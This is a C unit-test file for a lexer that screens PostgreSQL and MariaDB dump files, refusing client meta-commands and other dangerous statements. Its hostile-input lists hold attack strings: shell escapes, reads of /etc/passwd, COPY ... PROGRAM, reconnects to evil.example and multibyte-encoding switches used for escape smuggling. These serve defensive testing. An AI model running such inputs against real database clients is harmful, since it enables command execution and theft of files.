/*
 * The SQL lexer: what is sound passes, what a client would take for a command does not, and how the input is cut into
 * pieces changes nothing: every text here is fed whole, byte by byte and in pieces of other sizes.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

#include "workers/unpacker/sql_lexer.h"

#define PG_HEAD "SET client_encoding = 'UTF8';\nSET standard_conforming_strings = on;\n"
#define PG_TAIL "\n--\n-- PostgreSQL database cluster dump complete\n--\n\n"
#define MY_TAIL "\n-- Dump completed on 2026-01-01  1:02:03\n"
#define COUNT(array) (sizeof(array) / sizeof(array)[0])

/* What came out of a run: the SQL, and the events as lines. */
struct result {
    int verdict;
    char error[512];
    size_t size;
    char sql[65536];
    char events[4096];
};

static int take_sql(void *context, const void *data, size_t size)
{
    struct result *result = context;
    assert_true(size < sizeof result->sql - result->size);
    memcpy(result->sql + result->size, data, size);
    result->size += size;
    return 0;
}

static int take_event(struct result *result, const char *kind, const char *text)
{
    size_t used = strlen(result->events);
    snprintf(result->events + used, sizeof result->events - used, "%s %s\n", kind, text);
    return 0;
}

static int take_database(void *context, const char *name)
{
    return take_event(context, "database", name);
}

static int take_role(void *context, const char *name)
{
    return take_event(context, "role", name);
}

static int take_version(void *context, const char *text)
{
    return take_event(context, "version", text);
}

static void run_in_pieces(enum section_kind kind, const char *text, size_t size, size_t piece, struct result *result)
{
    memset(result, 0, sizeof *result);
    struct sql_sink sink = {take_sql, take_database, take_role, take_version, result};
    struct sql_lexer *lexer = sql_lexer_new(kind, "postgres", &sink);
    assert_non_null(lexer);
    for (size_t at = 0; at < size && result->verdict == 0; at += piece) {
        size_t rest = size - at;
        char *copy = malloc(rest < piece ? rest : piece); /* of its exact size, so that reading beyond it is seen */
        memcpy(copy, text + at, rest < piece ? rest : piece);
        result->verdict = sql_lexer_feed(lexer, copy, rest < piece ? rest : piece);
        free(copy);
    }
    if (result->verdict == 0) {
        result->verdict = sql_lexer_end(lexer);
    }
    strcpy(result->error, sql_lexer_error(lexer));
    assert_true((result->verdict == 0) == (result->error[0] == '\0'));
    sql_lexer_free(lexer);
}

/* The result is in static memory, until the next run. */
static const struct result *run_bytes(enum section_kind kind, const char *text, size_t size)
{
    static struct result whole, cut;
    static const size_t pieces[] = {1, 2, 3, 5, 17, 64, 257};
    run_in_pieces(kind, text, size, size + 1, &whole);
    for (size_t i = 0; i < COUNT(pieces); i++) {
        run_in_pieces(kind, text, size, pieces[i], &cut);
        assert_int_equal(cut.verdict, whole.verdict);
        assert_string_equal(cut.error, whole.error);
        if (whole.verdict == 0) {
            assert_int_equal(cut.size, whole.size);
            assert_memory_equal(cut.sql, whole.sql, whole.size);
            assert_string_equal(cut.events, whole.events);
        }
    }
    return &whole;
}

static const struct result *run(enum section_kind kind, const char *head, const char *text, const char *tail)
{
    static char dump[65536];
    snprintf(dump, sizeof dump, "%s%s%s", head, text, tail);
    return run_bytes(kind, dump, strlen(dump));
}

static const struct result *postgres(const char *text)
{
    return run(SECTION_POSTGRES, PG_HEAD, text, PG_TAIL);
}

static const struct result *mariadb(const char *text)
{
    return run(SECTION_MARIADB, "", text, MY_TAIL);
}

/* It passed, and `text` came out as it went in. */
static void assert_sound(const struct result *result, const char *text)
{
    if (result->verdict != 0) {
        print_error("refused: %s\n%s\n", text, result->error);
    }
    assert_int_equal(result->verdict, 0);
    if (strstr(result->sql, text) == NULL) {
        print_error("changed: %s\n", text);
    }
    assert_non_null(strstr(result->sql, text));
}

static void assert_refused(const struct result *result, const char *text)
{
    if (result->verdict == 0) {
        print_error("not refused: %s\n", text);
    }
    assert_int_equal(result->verdict, -1);
}

static void postgres_lets_sound_sql_through(void **state)
{
    (void)state;
    static const char *const sound[] = {
        "SELECT 'a backslash \\! in quotes', \"in a \\! name\", $$in \\! dollar$ quotes$$, $a$in $$ \\! $b$ tags$a$;",
        "SELECT E'it\\'s \\\\', 'it''s', B'01', X'1F', N'n', U&'\\0441', U&\"\\0441\";",
        "SELECT E'\\\\'; SELECT 'x';",
        "/* a /* nested \\! */ comment \\! ' */ SELECT 1; -- \\! and ' here\nSELECT 2;",
        "SELECT 1 /-- a division? no, a comment \\!\n;",
        "SELECT a::text, b[1:2], c[i:j], d := 3, ARRAY[1:2]::int[], '10:30'::time, x ::VARCHAR, y[1:\"N\"];",
        "SELECT $1, a$b$c, 1.5e10, .5, 1e5;",
        "SELECT $$a$$, $t1$ $t $t1 $t2$ $$ $t1$;",
        "SELECT $ü$ \\! $ü$;",
        "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $_$ begin perform '\\'; return 1; end $_$;",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql\n BEGIN ATOMIC\n SELECT CASE WHEN 1 > 2 THEN 3 END;\n SELECT "
        "4;\nEND;",
        "CREATE RULE r AS ON INSERT TO t DO INSTEAD (SELECT 1; SELECT 2);",
        "COPY public.t (a, \"from\", \"to\") FROM stdin;\n1\t\\N\tx\n\\\\.\ty\tz\n\\! ls\t-- '\t$$\n\\.\n\nSELECT 1;",
        "COPY public.\"from stdin\" FROM stdin;\n\\.\n",
        "COPY t WITH OIDS FROM STDIN;\n-- PostgreSQL database cluster dump complete\n\\.\n",
        "\\connect shop",
        "\\connect \"UPPER\"",
        "\\connect -reuse-previous=on \"dbname='back\\\\slash'\"",
        "\\connect -reuse-previous=on \"dbname='quo\"\"te\\'d'\"",
        "\\connect -reuse-previous=on \"dbname='a=b host=x'\"",
        "\\encoding SQL_ASCII\n\\connect -reuse-previous=on \"dbname='Größe'\"",
        "SET client_encoding = 'LATIN1';\nSET client_encoding TO 'EUC_JP';",
        "SET standard_conforming_strings = off;\nSELECT 'it\\'s; \\! not a command';\nSET standard_conforming_strings "
        "= on;",
        "COMMENT ON TABLE t IS E'a\\nb';\nCOMMENT ON TABLE t IS 'b';",
        "SELECT pg_catalog.set_config('search_path', '', false);",
        "DROP DATABASE IF EXISTS x WITH (FORCE);\nDROP ROLE a, b;\nCREATE ROLE c WITH LOGIN;",
        "ALTER ROLE x SET client_min_messages TO 'error';",
        "SELECT '-- PostgreSQL database cluster dump complete\n-- PostgreSQL database cluster dump complete\n';",
        "INSERT INTO t VALUES ('\n\\! ls\n', 'DELIMITER');",
        ";;",
    };
    for (size_t i = 0; i < COUNT(sound); i++) {
        assert_sound(postgres(sound[i]), sound[i]);
    }
}

static void postgres_refuses_what_psql_would_obey(void **state)
{
    (void)state;
    static const char *const hostile[] = {
        "\\! touch /tmp/pwned",
        "SELECT 1 \\! touch /tmp/pwned",
        "SELECT 1 \\g |sh",
        "SELECT 'x' \\gexec",
        "SELECT 1\n\\g\n",
        " \\connect shop",
        "/* */\\connect shop",
        "\\copy t from '/etc/passwd'",
        "\\i /etc/passwd",
        "\\o |sh",
        "\\set x y",
        "\\c shop",
        "\\connect",
        "\\connect ",
        "\\connect -",
        "\\connect shop postgres evil.example 5432",
        "\\connect `touch /tmp/pwned`",
        "\\connect :DBNAME",
        "\\connect 'shop'",
        "\\connect \"host=evil.example\"",
        "\\connect \"postgresql://evil.example/x\"",
        "\\connect \"shop\" postgres",
        "\\connect -reuse-previous=on \"dbname='x' host=evil.example\"",
        "\\connect -reuse-previous=on \"dbname='x\\' host=evil.example\"",
        "\\connect -reuse-previous=on \"host=evil.example\"",
        "\\connect -reuse-previous=on \"dbname=a host=evil.example\"",
        "\\connect -reuse-previous=off \"dbname='x'\"",
        "\\encoding SJIS",
        "\\encoding `id`",
        "\\.",
        "SELECT 1 \\; SELECT 2;",
        "SELECT $$ $a$ $$ \\! ls",
        "SELECT a$b$ \\! ls $b$;",
        "SELECT $1$ \\! ls $1$;",
        "SELECT 'it\\'s \\! ls';",
        "SELECT E'a' \\! ls",
        "SELECT nameE'\\' \\! ls';",
        "SELECT 1E'\\' \\! ls';",
        "SELECT E'a'\n'b\\' \\! ls';",
        "/* /* */ */ \\! ls",
        "-- comment\r\\! ls\n",
        "SELECT :DBNAME;",
        "SELECT 1:::USER;",
        "COPY t FROM PROGRAM 'touch /tmp/pwned';",
        "COPY t TO PROGRAM 'sh';",
        "COPY t FROM '/etc/passwd';",
        "COPY (SELECT 1) TO '/tmp/x';",
        "COPY t TO STDOUT;",
        "COPY t;",
        "COPY t FROM stdin (FORMAT csv);\n\\.\n",
        "COPY t FROM stdin; \\! ls\n\\.\n",
        "COPY t FROM stdin;SELECT 1;\n\\.\n",
        "COPY t FROM stdin;\n\\.x\n\\.\n",
        "COPY t FROM stdin;\n\\.\r\n\\.\n",
        "CREATE FUNCTION f() RETURNS begin LANGUAGE sql AS ''; COPY t FROM stdin; end;",
        "CREATE RULE r AS ON INSERT TO t DO (SELECT 1; COPY t FROM stdin;);",
        "SET client_encoding = 'SJIS';",
        "SET client_encoding TO big5;",
        "SET client_encoding = 'GBK';",
        "SET client_encoding = 'UHC';",
        "SET client_encoding = 'GB18030';",
        "SET client_encoding = 'JOHAB';",
        "SET client_encoding = 'SHIFT_JIS_2004';",
        "SET NAMES 'sjis';",
        "SET LOCAL client_encoding = 'UTF8';",
        "SET \"client_encoding\" = 'SJIS';",
        "SET standard_conforming_strings TO DEFAULT;",
        "SET standard_conforming_strings = 'off';",
        "SELECT pg_catalog.set_config('client_encoding', 'SJIS', false);",
        "SELECT pg_catalog.set_config('Standard_' || 'conforming_strings', 'off', false);",
        "\\connect shop\nSELECT 'a\\';",
        "\\connect shop\nSELECT 'ü';",
        "RESET ALL;\nSELECT $$ü$$;",
        "SELECT 1;\n-- PostgreSQL database cluster dump complete\nSELECT 2;",
        "-- PostgreSQL database cluster dump complete\n\\connect shop",
        "SELECT 'open",
        "SELECT 1",
        "SELECT $$open",
        "/* open",
        "COPY t FROM stdin;\nrow\n",
    };
    for (size_t i = 0; i < COUNT(hostile); i++) {
        assert_refused(postgres(hostile[i]), hostile[i]);
    }
}

static void postgres_refuses_nul_and_a_missing_trailer(void **state)
{
    (void)state;
    static const char nul[] = PG_HEAD "SELECT 1;\0" PG_TAIL;
    assert_refused(run_bytes(SECTION_POSTGRES, nul, sizeof nul - 1), "NUL");
    assert_refused(run(SECTION_POSTGRES, PG_HEAD, "SELECT 1;\n", ""), "no trailer");
    assert_refused(run(SECTION_POSTGRES, "", "", ""), "nothing");
    const char *dump = PG_HEAD "SELECT 1;\nCOPY t FROM stdin;\na\n\\.\n\\connect a\n" PG_TAIL;
    size_t whole = strlen(dump) - strlen("--\n\n");
    for (size_t size = 0; size < whole; size++) {
        assert_refused(run_bytes(SECTION_POSTGRES, dump, size), "cut");
    }
    assert_int_equal(run_bytes(SECTION_POSTGRES, dump, whole)->verdict, 0);
}

static void postgres_names_the_line(void **state)
{
    (void)state;
    const struct result *result = postgres("SELECT 'a\nb';\n\\! ls");
    assert_non_null(strstr(result->error, "PostgreSQL dump, line 5: "));
    assert_non_null(strstr(result->error, "`\\! ls`"));
    result = postgres("COPY t FROM stdin;\n1\n2\n\\.\n\\x \033[2J");
    assert_non_null(strstr(result->error, "line 7: "));
    assert_null(strchr(result->error, '\033'));
}

static void postgres_drops_restrict_lines(void **state)
{
    (void)state;
    const struct result *result = postgres("\\restrict abc\nSELECT 1;\n\\unrestrict abc\n");
    assert_int_equal(result->verdict, 0);
    assert_memory_equal(result->sql, PG_HEAD "\nSELECT 1;\n\n", strlen(PG_HEAD) + strlen("\nSELECT 1;\n\n"));
    result = run(SECTION_POSTGRES, PG_HEAD, PG_TAIL, "\\unrestrict abc\n");
    assert_int_equal(result->verdict, 0);
}

static void postgres_rewrites_what_could_only_fail(void **state)
{
    (void)state;
    const struct result *result = postgres("DROP ROLE IF EXISTS \"a'\\b\"\"c\";\nDROP ROLE postgres;\n");
    assert_int_equal(result->verdict, 0);
    assert_non_null(strstr(result->sql, "DO E'DECLARE cleared CONSTANT pg_catalog.name := E''a''''\\\\\\\\b\"c'';"));
    assert_non_null(strstr(result->sql, "DROP ROLE IF EXISTS %I"));
    assert_null(strstr(strstr(result->sql, "E''postgres''"), "DROP ROLE"));
    result = postgres("DROP ROLE postgres;\n");
    assert_null(strstr(result->sql, "DROP ROLE"));
    assert_null(strstr(result->sql, "PASSWORD"));

    result = postgres("CREATE ROLE Reader;\nALTER ROLE reader WITH LOGIN;\n");
    assert_string_equal(result->events, "role reader\n");
    assert_non_null(strstr(result->sql, "DO E'BEGIN IF NOT EXISTS (SELECT 1 FROM pg_catalog.pg_roles WHERE rolname = "
                                        "E''reader'') THEN EXECUTE pg_catalog.format(''CREATE ROLE %I'', E''reader''); "
                                        "END IF; END';\nALTER ROLE reader WITH LOGIN;\n"));

    result = postgres("DROP DATABASE IF EXISTS \"a\\b\";\n");
    assert_non_null(strstr(result->sql, "datname = E'a\\\\b'; DROP DATABASE IF EXISTS \"a\\b\";\n"));

    result = postgres("DROP TABLESPACE IF EXISTS ts;\nCREATE TABLESPACE ts OWNER o LOCATION '/it''s';\n");
    assert_null(strstr(result->sql, "DROP TABLESPACE"));
    assert_non_null(
        strstr(result->sql, "SELECT E'CREATE TABLESPACE ts OWNER o LOCATION ''/it''''s''' WHERE NOT EXISTS"));
    assert_non_null(strstr(result->sql, "= E'ts') \\gexec \\\\ ALTER TABLESPACE \"ts\" OWNER TO \"o\";\n"));
}

static void postgres_keeps_line_numbers(void **state)
{
    (void)state;
    const char *text = "\\restrict x\nDROP ROLE a;\nCREATE ROLE a;\nDROP TABLESPACE b;\nDROP DATABASE c;\n"
                       "CREATE TABLESPACE ts OWNER o LOCATION '/x';\nSELECT 'last';";
    const struct result *result = postgres(text);
    size_t lines = 0;
    for (const char *at = result->sql; at < strstr(result->sql, "SELECT 'last'"); at++) {
        lines += *at == '\n';
    }
    assert_int_equal(lines, 2 + 6);
}

static void postgres_reports_what_the_dump_holds(void **state)
{
    (void)state;
    const struct result *result =
        postgres("-- Dumped from database version 15.18 (Debian 15.18-0+deb12u1)\n"
                 "-- Dumped from database version 15.18 (Debian 15.18-0+deb12u1)\n"
                 "CREATE ROLE \"odd \"\"role\"\" ü\";\nCREATE ROLE r;\n"
                 "CREATE DATABASE template1 WITH TEMPLATE = template0 ENCODING = 'UTF8';\n"
                 "CREATE DATABASE \"quo\"\"te'd\" WITH TEMPLATE = template0;\n"
                 "SELECT 'CREATE DATABASE no;\nCREATE ROLE no;\n-- Dumped from database version 1\n';\n"
                 "COPY t FROM stdin;\nCREATE DATABASE no;\n\\.\n");
    assert_int_equal(result->verdict, 0);
    assert_string_equal(result->events, "version 15.18 (Debian 15.18-0+deb12u1)\nrole odd \"role\" ü\nrole r\n"
                                        "database template1\ndatabase quo\"te'd\n");
}

static void mariadb_lets_sound_sql_through(void **state)
{
    (void)state;
    static const char *const sound[] = {
        "INSERT INTO `t` VALUES\n(1,'it\\'s \\\\','\n\\! ls\nDELIMITER //\nsource "
        "x\n',\"\\\"\",-5,NULL,x'00'),(2,'''',\"'\",0,\\N,'');",
        "CREATE TABLE `a``b\\` (`c` int DEFAULT NULL COMMENT 'it''s; -- \\\\'); -- comment \\! '\n# comment \\! '\n",
        "/* plain \\! ' */ SELECT 1;",
        "/*!40101 SET @saved_cs_client     = @@character_set_client */;\n/*!50003 SET character_set_client  = cp850 */ "
        ";",
        "DELIMITER ;;\nCREATE PROCEDURE `p`()\nBEGIN\n  SELECT 1; -- it's\n  SELECT 'a;;b';\n\\N\nEND ;;\nDELIMITER "
        ";\nSELECT 1;",
        "delimiter //\nCREATE TRIGGER t BEFORE INSERT ON x FOR EACH ROW BEGIN SET NEW.a = 1/2; END//\nDELIMITER ;\n",
        "DELIMITER $$\nCREATE PROCEDURE a$b() SELECT $ , 1 $$\nUSE x$$\nDELIMITER ;\nSELECT 2;",
        "/*!50003 SET sql_mode              = 'ANSI_QUOTES' */ ;\nCREATE VIEW v AS SELECT \"a\\\";\n"
        "/*!50003 SET sql_mode              = @saved_sql_mode */ ;\nSELECT \"it\\\"s\";",
        "SET sql_mode = 'ANSI_QUOTES';\nSELECT * FROM t WHERE a = 'it\\'s' AND b = \"x\";",
        "SET sql_mode = 'NO_BACKSLASH_ESCAPES';\nSELECT * FROM t WHERE a = 'x\\';\nSET sql_mode = '';",
        "/*!40101 SET @OLD_SQL_MODE=@@SQL_MODE, SQL_MODE='NO_AUTO_VALUE_ON_ZERO' */;",
        "/*!50001 CREATE ALGORITHM=UNDEFINED */\n/*!50013 DEFINER=`root`@`localhost` SQL SECURITY DEFINER */\n"
        "/*!50001 VIEW `v` AS select 5--3 AS `x` */;",
        "USE `x`;\nLOCK TABLES `t` WRITE;\nUNLOCK TABLES;",
        "/*M!100616 SET @OLD_NOTE_VERBOSITY=@@NOTE_VERBOSITY, NOTE_VERBOSITY=0 */;",
        "SELECT '-- Dump completed\n-- Dump completed\n';",
        "SET NAMES utf8mb4;\nSET CHARACTER SET latin1;",
    };
    for (size_t i = 0; i < COUNT(sound); i++) {
        assert_sound(mariadb(sound[i]), sound[i]);
    }
}

static void mariadb_refuses_what_a_client_would_obey(void **state)
{
    (void)state;
    static const char *const hostile[] = {
        "\\! touch /tmp/pwned",
        "SELECT 1 \\! touch /tmp/pwned",
        "SELECT 1\\G",
        "\\. /etc/passwd",
        "\\C gbk",
        "system touch /tmp/pwned",
        "SELECT 1; system ls",
        "SELECT 1;\n  SOURCE /etc/passwd\n",
        "/*!40101 system ls */;",
        "tee /tmp/x\n",
        "pager sh\n",
        "connect a evil.example\n",
        "edit\n",
        "? x\n",
        "delimiter",
        "DELIMITER \n",
        "DELIMITER \\\n",
        "DELIMITER abc\n",
        "DELIMITER ;;;;;;;;;\n",
        "SELECT 1; DELIMITER //\n",
        "/* x */ DELIMITER //\n",
        "DELIMITER ;; SELECT 1\n",
        "DELIMITER ;;\nSELECT 1 \\! ls;;\nDELIMITER ;\n",
        "/*!50003 SELECT 1 */ \\! ls",
        "/*!50003 SELECT 1 \\! ls */;",
        "/* x */ \\! ls",
        "SELECT `a\\`; \\! ls",
        "SELECT 'a\\\\'; \\! ls",
        "SELECT 'a''b' \\! ls",
        "SELECT 1 -- x\n \\! ls",
        "SELECT 1 --x \\! ls",
        "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t;",
        "SET NAMES sjis;",
        "SET NAMES 'cp932';",
        "SET NAMES DEFAULT;",
        "SET CHARACTER SET big5;",
        "SET CHARSET gbk;",
        "/*!50003 SET character_set_client  = gb18030 */ ;",
        "SET @@session.character_set_client = gbk;",
        "SET `character_set_client` := gbk;",
        "SET sql_mode = @other;",
        "SET sql_mode = CONCAT('NO_BACKSLASH', '_ESCAPES');",
        "/*!999999 SET sql_mode = 'NO_BACKSLASH_ESCAPES' */;",
        "SET @a = 1 /*M!999998, sql_mode = 'ANSI_QUOTES' */;",
        "/*!999999\\- enable the sandbox mode */ SELECT 1;\n",
        "SELECT 1; /*M!999999\\- enable the sandbox mode */\n",
        "SELECT 1;\n-- Dump completed\nSELECT 2;",
        "SELECT 'open",
        "SELECT 1",
        "/* open",
    };
    for (size_t i = 0; i < COUNT(hostile); i++) {
        assert_refused(mariadb(hostile[i]), hostile[i]);
    }
}

static void mariadb_takes_nul_in_strings_alone(void **state)
{
    (void)state;
    static const char sound[] = "INSERT INTO t VALUES ('a\0b');" MY_TAIL;
    static const char bare[] = "INSERT INTO t VALUES (\0);" MY_TAIL;
    static const char escaped[] = "INSERT INTO t VALUES ('a\\\0b');" MY_TAIL;
    assert_int_equal(run_bytes(SECTION_MARIADB, sound, sizeof sound - 1)->verdict, 0);
    assert_refused(run_bytes(SECTION_MARIADB, bare, sizeof bare - 1), "NUL");
    assert_refused(run_bytes(SECTION_MARIADB, escaped, sizeof escaped - 1), "NUL after a backslash");
}

static void mariadb_drops_the_sandbox_line(void **state)
{
    (void)state;
    static const char *const lines[] = {"/*!999999\\- enable the sandbox mode */\n",
                                        "/*M!999999\\- enable the sandbox mode */ \n"};
    for (size_t i = 0; i < COUNT(lines); i++) {
        const struct result *result = run(SECTION_MARIADB, lines[i], "SELECT 1;", MY_TAIL);
        assert_int_equal(result->verdict, 0);
        assert_string_equal(result->sql, "\nSELECT 1;" MY_TAIL);
    }
}

static void mariadb_wants_its_trailer(void **state)
{
    (void)state;
    assert_refused(run(SECTION_MARIADB, "SELECT 1;\n", "", ""), "no trailer");
    assert_refused(run(SECTION_MARIADB, "SELECT 1;\n", "-- Dump completeda\n", ""), "another comment");
    assert_int_equal(run(SECTION_MARIADB, "SELECT 1;\n", "-- Dump completed\n", "")->verdict, 0);
    const char *dump = "SELECT 1;\nDELIMITER ;;\nSELECT 'a' ;;\nDELIMITER ;\n" MY_TAIL;
    for (size_t size = 0; size < strlen(dump) - strlen(MY_TAIL); size++) {
        assert_refused(run_bytes(SECTION_MARIADB, dump, size), "cut");
    }
}

static void mariadb_reports_what_the_dump_holds(void **state)
{
    (void)state;
    const struct result *result =
        mariadb("-- Server version\t10.11.19-MariaDB-0+deb12u1\n"
                "CREATE DATABASE /*!32312 IF NOT EXISTS*/ `back``tick` /*!40100 DEFAULT CHARACTER SET latin1 */;\n\n"
                "USE `back``tick`;\nCREATE TABLE `database` (a int);\nINSERT INTO t VALUES ('CREATE DATABASE no;');\n"
                "CREATE OR REPLACE SCHEMA IF NOT EXISTS `Größe`;\nUSE other;\n");
    assert_int_equal(result->verdict, 0);
    assert_string_equal(result->events,
                        "version 10.11.19-MariaDB-0+deb12u1\ndatabase back`tick\ndatabase Größe\ndatabase other\n");
}

struct counter {
    size_t bytes;
    size_t limit;
};

static int count_sql(void *context, const void *data, size_t size)
{
    (void)data;
    struct counter *counter = context;
    counter->bytes += size;
    return counter->bytes > counter->limit ? -1 : 0;
}

static int ignore_event(void *context, const char *text)
{
    (void)context;
    (void)text;
    return 0;
}

/* Feeds `opening`, 64 MiB of `filling` and `closing`; nothing of it may be kept back for long. */
static void feed_long(enum section_kind kind, const char *opening, const char *filling, const char *closing)
{
    struct counter counter = {0, SIZE_MAX};
    struct sql_sink sink = {count_sql, ignore_event, ignore_event, ignore_event, &counter};
    struct sql_lexer *lexer = sql_lexer_new(kind, "postgres", &sink);
    size_t piece = strlen(filling), fed = strlen(opening);
    assert_int_equal(sql_lexer_feed(lexer, opening, strlen(opening)), 0);
    for (; fed < (64 << 20); fed += piece) {
        assert_int_equal(sql_lexer_feed(lexer, filling, piece), 0);
        assert_true(counter.bytes + 4096 >= fed);
    }
    assert_int_equal(sql_lexer_feed(lexer, closing, strlen(closing)), 0);
    assert_int_equal(sql_lexer_end(lexer), 0);
    assert_int_equal(counter.bytes, fed + strlen(closing));
    sql_lexer_free(lexer);
}

static void long_statements_pass_without_being_kept(void **state)
{
    (void)state;
    static char filling[65537];
    memset(filling, 'x', sizeof filling - 1);
    feed_long(SECTION_POSTGRES, PG_HEAD "SELECT '", filling, "';" PG_TAIL);
    feed_long(SECTION_POSTGRES, PG_HEAD "COPY t FROM stdin;\n", filling, "\n\\.\n" PG_TAIL);
    feed_long(SECTION_POSTGRES, PG_HEAD "DROP ROLE \"", filling, "\" CASCADE;" PG_TAIL);
    feed_long(SECTION_POSTGRES, PG_HEAD "-- ", filling, PG_TAIL);
    feed_long(SECTION_POSTGRES, PG_HEAD "SELECT ", filling, ";" PG_TAIL);
    feed_long(SECTION_MARIADB, "INSERT INTO t VALUES ('", filling, "');" MY_TAIL);
    feed_long(SECTION_MARIADB, "INSERT INTO t VALUES (", filling, ");" MY_TAIL);
    feed_long(SECTION_MARIADB, "/* ", filling, "*/" MY_TAIL);
}

static void a_sink_that_stops_stops_the_lexer(void **state)
{
    (void)state;
    struct counter counter = {0, 3};
    struct sql_sink sink = {count_sql, ignore_event, ignore_event, ignore_event, &counter};
    struct sql_lexer *lexer = sql_lexer_new(SECTION_MARIADB, "root", &sink);
    assert_int_equal(sql_lexer_feed(lexer, "SELECT 1;" MY_TAIL, strlen("SELECT 1;" MY_TAIL)), -1);
    assert_true(strlen(sql_lexer_error(lexer)) > 0);
    assert_int_equal(sql_lexer_feed(lexer, "x", 1), -1);
    assert_int_equal(sql_lexer_end(lexer), -1);
    sql_lexer_free(lexer);
    assert_null(sql_lexer_new(SECTION_VOLUME, "root", &sink));
    sql_lexer_free(NULL);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(postgres_lets_sound_sql_through),
        cmocka_unit_test(postgres_refuses_what_psql_would_obey),
        cmocka_unit_test(postgres_refuses_nul_and_a_missing_trailer),
        cmocka_unit_test(postgres_names_the_line),
        cmocka_unit_test(postgres_drops_restrict_lines),
        cmocka_unit_test(postgres_rewrites_what_could_only_fail),
        cmocka_unit_test(postgres_keeps_line_numbers),
        cmocka_unit_test(postgres_reports_what_the_dump_holds),
        cmocka_unit_test(mariadb_lets_sound_sql_through),
        cmocka_unit_test(mariadb_refuses_what_a_client_would_obey),
        cmocka_unit_test(mariadb_takes_nul_in_strings_alone),
        cmocka_unit_test(mariadb_drops_the_sandbox_line),
        cmocka_unit_test(mariadb_wants_its_trailer),
        cmocka_unit_test(mariadb_reports_what_the_dump_holds),
        cmocka_unit_test(long_statements_pass_without_being_kept),
        cmocka_unit_test(a_sink_that_stops_stops_the_lexer),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
